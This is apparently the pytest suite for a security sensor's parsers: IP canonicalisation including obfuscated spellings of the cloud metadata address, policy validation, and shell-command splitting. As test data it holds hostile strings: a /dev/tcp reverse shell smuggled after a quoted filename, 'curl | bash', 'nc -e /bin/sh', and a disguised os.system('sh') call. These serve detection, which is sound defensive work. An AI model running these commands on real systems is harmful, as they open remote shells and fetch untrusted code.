"""The sensor's pure parts, in process: addresses, patterns, YAML, JSON, policies, programs."""

from __future__ import annotations

import json

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from ramparts import _glob, _jsonl, _net, _policy, _procs, _yaml


@pytest.mark.parametrize(
    ("text", "canonical", "v4"),
    [
        ("169.254.169.254", "169.254.169.254", "169.254.169.254"),
        ("2852039166", "169.254.169.254", "169.254.169.254"),
        ("0xa9fea9fe", "169.254.169.254", "169.254.169.254"),
        ("0251.0376.0251.0376", "169.254.169.254", "169.254.169.254"),
        ("169.254.43518", "169.254.169.254", "169.254.169.254"),
        ("::ffff:169.254.169.254", "::ffff:169.254.169.254", "169.254.169.254"),
        ("[::ffff:a9fe:a9fe]", "::ffff:169.254.169.254", "169.254.169.254"),
        ("64:ff9b::a9fe:a9fe", "64:ff9b::a9fe:a9fe", "169.254.169.254"),
        ("FD00:EC2:0:0:0:0:0:254", "fd00:ec2::254", None),
        ("fe80::1%eth0", "fe80::1", None),
        ("::1", "::1", None),
    ],
)
def test_ip_spellings_are_canonicalised(text, canonical, v4):
    addr = _net.parse_ip(text)
    assert addr is not None and addr.text == canonical and addr.v4 == v4


@pytest.mark.parametrize(
    "name", ["example.com", "cafe", "deadbeef.example", "", "1.2.3.4.5", "a::b::c"]
)
def test_names_are_not_ips(name):
    assert _net.parse_ip(name) is None


def test_credential_endpoints():
    for text in ("169.254.169.254", "::ffff:169.254.170.2", "fd00:ec2::23", "0xa9feaa17"):
        assert _net.credential_endpoint(_net.parse_ip(text)), text
    for text in ("169.254.169.123", "10.0.0.1", "::1"):  # 169.254.169.123 is the time service
        assert _net.credential_endpoint(_net.parse_ip(text)) is None, text


def test_cidr():
    c = _net.Cidr("10.0.0.0/8")
    assert c.contains(_net.parse_ip("10.255.1.2")) and not c.contains(_net.parse_ip("11.0.0.1"))
    assert c.contains(_net.parse_ip("::ffff:10.1.1.1"))  # the mapped form is the same host
    assert _net.Cidr("2001:db8::/32").contains(_net.parse_ip("2001:db8:1::5"))
    with pytest.raises(ValueError, match="host bits"):
        _net.Cidr("10.0.0.1/8")
    with pytest.raises(ValueError, match="out of range"):
        _net.Cidr("10.0.0.0/33")


@pytest.mark.parametrize(
    ("patterns", "path", "expected"),
    [
        (["/tmp/**"], "/tmp", True),
        (["/tmp/**"], "/tmp/a/b/c", True),
        (["/tmp/**"], "/tmpfoo", False),
        (["/srv/*.json"], "/srv/a.json", True),
        (["/srv/*.json"], "/srv/x/a.json", False),
        (["/srv/**/*.json"], "/srv/x/y/a.json", True),
        (["/srv/**/*.json"], "/srv/a.json", True),
        (["/usr/bin/python3.1?"], "/usr/bin/python3.12", True),
        (["/a/b"], "/a/b/c", False),
    ],
)
def test_path_globs(patterns, path, expected):
    assert _glob.PathGlobs(patterns).match(path) is expected


@pytest.mark.parametrize(
    ("pattern", "host", "expected"),
    [
        ("*.amazonaws.com", "s3.us-east-1.amazonaws.com", True),
        ("*.amazonaws.com", "amazonaws.com", False),
        ("*.amazonaws.com", "evil-amazonaws.com", False),
        ("*.amazonaws.com", "amazonaws.com.evil.net", False),
        ("API.Example.com.", "api.example.com", True),
        ("api-*.example.com", "api-eu.example.com", True),
        ("api-*.example.com", "api.example.com", False),
        ("*", "anything.at.all", True),
    ],
)
def test_host_globs(pattern, host, expected):
    assert _glob.HostGlobs([pattern]).match(host) is expected


@given(st.text(alphabet="ab*?", max_size=8), st.text(alphabet="ab*?", max_size=12))
def test_wildcard_matcher_agrees_with_fnmatch(pattern, text):
    import fnmatch

    assert _glob._wild(pattern, text) == fnmatch.fnmatchcase(text, pattern)


def test_yaml_subset():
    doc = """
# policy
version: 1
mode: off
egress:
  allow:
    - "*.amazonaws.com:443"   # quoted because of the *
    - {host: api.example.com, ports: [443, "8000-8100"]}
    - cidr: 10.0.0.0/8
      ports: [5432]
files:
  write:
  - /tmp/**
  - '/it''s # not a comment'
aws: {allow: ["s3:Get*"]}
"""
    assert _yaml.loads(doc) == {
        "version": 1,
        "mode": "off",
        "egress": {
            "allow": [
                "*.amazonaws.com:443",
                {"host": "api.example.com", "ports": [443, "8000-8100"]},
                {"cidr": "10.0.0.0/8", "ports": [5432]},
            ]
        },
        "files": {"write": ["/tmp/**", "/it's # not a comment"]},
        "aws": {"allow": ["s3:Get*"]},
    }


@pytest.mark.parametrize(
    ("doc", "message"),
    [
        ("a: &anchor 1", "anchors"),
        ("a: |\n  text", "block scalars"),
        ("a:\n\tb: 1", "tabs"),
        ("a: 1\na: 2", "duplicate key"),
        ("a: [1, 2", "unterminated"),
        ("a: 1\n  b: 2", "indentation"),
    ],
)
def test_yaml_errors_name_the_line(doc, message):
    with pytest.raises(_yaml.YAMLError, match=message) as info:
        _yaml.loads(doc)
    assert info.value.lineno >= 1


@settings(max_examples=300)
@given(st.text(max_size=200))
def test_yaml_parser_never_crashes(text):
    try:
        _yaml.loads(text)
    except _yaml.YAMLError:
        pass


@given(
    st.recursive(
        st.none()
        | st.booleans()
        | st.integers()
        | st.text()
        | st.floats(allow_nan=False, allow_infinity=False),
        lambda kids: (
            st.lists(kids, max_size=4) | st.dictionaries(st.text(max_size=5), kids, max_size=4)
        ),
        max_leaves=20,
    )
)
def test_json_encoder_matches_json_and_round_trips(value):
    text = _jsonl.dumps(value)
    assert json.loads(text) == value
    assert _jsonl.loads(text) == value


def test_json_errors_carry_the_line():
    with pytest.raises(ValueError, match="line 2"):
        _jsonl.loads('{"a": 1,\n "b": }')
    for broken in ("{", "{a", "[1,", "", '{"a" 1}', "nul"):
        with pytest.raises(_jsonl.JSONError):
            _jsonl.loads(broken)


@settings(max_examples=300)
@given(st.text(max_size=60))
def test_json_decoder_raises_only_json_errors(text):
    try:
        _jsonl.loads(text)
    except _jsonl.JSONError:
        pass


def test_policy_errors_are_collected_with_locations():
    with pytest.raises(_policy.PolicyError) as info:
        _policy.build(
            {
                "egres": {},
                "egress": {"allow": ["10.0.0.0/33", {"host": "a.com", "ports": [70000]}, 5]},
                "process": {"allow": ["git"]},
                "aws": {"allow": ["s3GetObject"]},
                "mode": "block",
                "defaults": {"disable": ["default.shel"]},
            }
        )
    errors = "\n".join(info.value.errors)
    for fragment in (
        "egres: unknown key (did you mean 'egress'?)",
        "egress.allow[0]",
        "egress.allow[1].ports[0]: port 70000 is out of range",
        "egress.allow[2]",
        "process.allow[0]",
        "absolute path",
        "aws.allow[0]",
        "mode: 'block'",
        "did you mean 'default.shell'",
    ):
        assert fragment in errors, (fragment, errors)


def test_policy_matching():
    p = _policy.build(
        {
            "egress": {"allow": ["api.example.com:443", "10.0.0.0/8", "[2001:db8::]/32"]},
            "aws": {"allow": ["s3:Get*", "states:StartExecution"]},
            "native": {"allow": ["libvips.so*", "/opt/lib/*.so"]},
        }
    )
    ip = _net.parse_ip
    assert p.egress_allows("api.example.com", ip("203.0.113.1"), 443)
    assert not p.egress_allows("api.example.com", ip("203.0.113.1"), 80)
    assert p.egress_allows(None, ip("10.2.3.4"), 5432)
    assert p.egress_allows(None, ip("2001:db8::1"), 1)
    assert p.dns_allows("api.example.com") and not p.dns_allows("evil.example.com")
    assert p.aws_allows(("s3", "s3"), "GetObject") and not p.aws_allows(("s3", "s3"), "PutObject")
    assert p.aws_allows(("stepfunctions", "states"), "StartExecution")  # IAM prefix works too
    assert p.native_allows("/opt/lib/libx.so") and p.native_allows("libvips.so.42")
    assert not p.native_allows("/tmp/libx.so")


@pytest.mark.parametrize(
    ("argv", "expected_names"),
    [
        (["env", "A=1", "B=2", "sh", "-c", "x"], ["env", "sh", "x"]),
        (["timeout", "-s", "KILL", "5", "nc", "-e", "/bin/sh"], ["timeout", "nc"]),
        (["nohup", "env", "bash"], ["nohup", "env", "bash"]),
        (["ls", "-l"], ["ls"]),
    ],
)
def test_launchers_are_seen_through(argv, expected_names):
    progs = _procs.programs(None, argv, "/usr/bin:/bin")
    assert [p.argv[0] for p in progs] == expected_names


def test_multiprocessing_helpers_are_not_inline_code():
    mp = _procs.Program(
        "/usr/bin/python3",
        [
            "python3",
            "-c",
            "from multiprocessing.spawn import spawn_main; spawn_main(tracker_fd=5, pipe_handle=7)",
            "--multiprocessing-fork",
        ],
    )
    assert mp.inline_code() is None
    fake = _procs.Program(
        "/usr/bin/python3",
        [
            "python3",
            "-c",
            "from multiprocessing.spawn import spawn_main; spawn_main(__import__('os').system('sh'))",
        ],
    )
    assert fake.inline_code() is not None


@pytest.mark.parametrize(
    ("command", "expected"),
    [
        (
            "wc -c '/tmp/x'; sh -i >& /dev/tcp/10.0.0.1/4444 0>&1 #'",
            [["wc", "-c", "/tmp/x"], ["/dev/tcp", "/dev/tcp/10.0.0.1/4444"], ["sh", "-i"]],
        ),
        ("curl -s http://x | bash", [["curl", "-s", "http://x"], ["bash"]]),
        ("echo $(id) > /tmp/o 2>&1 && A=1 /tmp/.x arg", [["id"], ["/tmp/.x", "arg"]]),
        ('eval "nc -e /bin/sh h 1"', [["nc", "-e", "/bin/sh", "h", "1"]]),
        ("`whoami`", [["whoami"]]),
        ("ls \"a;b\" 'c|d'", [["ls", "a;b", "c|d"]]),
        ("(cd /tmp && exec ./run)", [["./run"]]),
        (". /tmp/evil.sh", [["/tmp/evil.sh"]]),
        ("wc -c '/tmp/notes.txt'", [["wc", "-c", "/tmp/notes.txt"]]),
    ],
)
def test_shell_command_strings_are_split_into_programs(command, expected):
    assert _procs.shell_commands(command) == expected


@settings(max_examples=300)
@given(st.text(max_size=120))
def test_shell_tokenizer_never_crashes(text):
    _procs.shell_commands(text)


def test_resolver_notices_a_directory_swapped_for_a_symlink(tmp_path):
    from ramparts._paths import Resolver

    r = Resolver()
    (tmp_path / "a" / "b").mkdir(parents=True)
    (tmp_path / "elsewhere" / "b").mkdir(parents=True)
    target = str(tmp_path / "a" / "b" / "f")
    assert r.resolve(target) == (target, None)  # cached now
    # swap an ancestor for a symlink: the same spelling now lands elsewhere. The sensor
    # tells the resolver when the process renames or links (audited), and distrusts its
    # cache for good once another process could do it.
    (tmp_path / "a").rename(tmp_path / "old")
    (tmp_path / "a").symlink_to(tmp_path / "elsewhere")
    r.changed()
    assert r.resolve(target)[0] == str(tmp_path / "elsewhere" / "b" / "f")
    r.distrust()
    (tmp_path / "a").unlink()
    (tmp_path / "a").symlink_to(tmp_path / "old")  # no changed(): validated by lstat alone
    assert r.resolve(target)[0] == str(tmp_path / "old" / "b" / "f")
    (tmp_path / "a").unlink()
    (tmp_path / "a").symlink_to(tmp_path / "elsewhere")
    # a final component that is a symlink is followed
    (tmp_path / "elsewhere" / "b" / "f").symlink_to("/etc/passwd")
    assert r.resolve(target)[0] == "/etc/passwd"
    # dots and duplicate slashes take the full resolution
    assert r.resolve(str(tmp_path) + "//a/../a/b/./g")[0] == str(tmp_path / "elsewhere" / "b" / "g")
